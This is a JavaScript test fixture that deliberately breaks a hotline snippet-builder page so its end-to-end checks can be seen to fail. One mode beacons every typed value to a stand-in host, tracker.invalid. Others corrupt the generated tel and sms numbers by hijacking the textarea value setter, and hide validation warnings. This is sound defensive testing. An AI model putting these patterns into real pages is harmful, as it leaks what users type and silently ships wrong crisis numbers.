// A deliberately broken snippet builder: tests/e2e/configure.test.mjs serves
// site/configure.html?broken=<mode>[,<mode>…] with this script added first in <head>, to
// see each of its checks fail before it relies on them.
const modes = (new URLSearchParams(location.search).get('broken') ?? '').split(',');

if (modes.includes('storage')) {
  // Keeps what is typed: browser storage and a cookie.
  addEventListener('input', (event) => {
    localStorage.setItem('typed', event.target.value);
    sessionStorage.setItem('typed', event.target.value);
    document.cookie = 'typed=1';
  });
}

if (modes.includes('request')) {
  // Sends what is typed to another host (the test serves this mode without a CSP, and aborts the request).
  addEventListener('input', (event) => {
    new Image().src = `http://tracker.invalid/?typed=${encodeURIComponent(event.target.value)}`;
  });
}

if (modes.includes('csp')) {
  // An inline style: a strict Content-Security-Policy refuses it and reports it.
  addEventListener('DOMContentLoaded', () => document.body.setAttribute('style', 'outline: 1px solid red'));
}

if (modes.includes('code')) {
  // Writes wrong code: the chosen hotlines are lost, and North American numbers lose their country code.
  const own = Object.getOwnPropertyDescriptor(HTMLTextAreaElement.prototype, 'value');
  Object.defineProperty(HTMLTextAreaElement.prototype, 'value', {
    ...own,
    set(value) {
      const wrong = String(value).replace(/hotlines="[^"]*"/g, 'hotlines="us-trafficking"').replaceAll('tel:+1', 'tel:').replaceAll('sms:+1', 'sms:');
      own.set.call(this, wrong);
    },
  });
}

if (modes.includes('warning')) {
  // Shows no warning next to a field.
  addEventListener('DOMContentLoaded', () => {
    new MutationObserver(() => {
      for (const box of document.querySelectorAll('.warning:not([hidden])')) box.hidden = true;
    }).observe(document.body, { subtree: true, attributes: true, attributeFilter: ['hidden'] });
  });
}
